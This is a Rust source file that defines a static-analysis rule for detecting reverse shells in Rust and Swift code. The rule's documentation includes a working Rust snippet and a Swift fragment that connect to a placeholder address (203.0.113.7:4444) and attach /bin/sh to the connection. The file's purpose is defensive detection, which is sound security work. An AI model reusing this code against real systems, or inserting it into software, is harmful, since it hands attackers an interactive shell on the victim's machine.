use crate::declare_rule;

declare_rule! {
    /// ## What it finds
    /// A connection to a hard-coded address wired to a shell: a `TcpStream::connect`
    /// to a literal host whose file descriptor becomes a child process's
    /// stdin/stdout/stderr (`Stdio::from(stream)`, `from_raw_fd(stream.as_raw_fd())`),
    /// or whose bytes are copied into and out of a spawned shell's pipes. In Swift,
    /// an `NWConnection`/`Socket` to a literal host piped into a `Process` running
    /// `/bin/sh`.
    ///
    /// ## Why it matters
    /// This is a reverse shell: the program dials out to an attacker and hands them
    /// an interactive shell, bypassing inbound firewalls. It has no legitimate place
    /// in an application or library and is the payload of most malicious packages.
    ///
    /// ## Example
    /// ```rust
    /// let stream = TcpStream::connect("203.0.113.7:4444")?;
    /// let fd = stream.as_raw_fd();
    /// Command::new("/bin/sh").arg("-i")
    ///     .stdin(unsafe { Stdio::from_raw_fd(fd) })
    ///     .stdout(unsafe { Stdio::from_raw_fd(fd) })
    ///     .spawn()?;
    /// ```
    /// ```swift
    /// let shell = Process()
    /// shell.executableURL = URL(fileURLWithPath: "/bin/sh")
    /// shell.standardInput = socketHandle
    /// shell.standardOutput = socketHandle
    /// try shell.run()
    /// ```
    ///
    /// ## Instead
    /// Remove it, treat the machine and every credential it held as compromised, and
    /// find out how the code got in (a dependency, a compromised account).
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    /// - MITRE ATT&CK T1059: Command and Scripting Interpreter
    pub static RULE = {
        id: "debug-entry/reverse-shell",
        summary: "A network connection is wired to a shell",
        cwe: [78, 506],
        severity: Critical,
        confidence: High,
        languages: [Rust, Swift],
    }
}
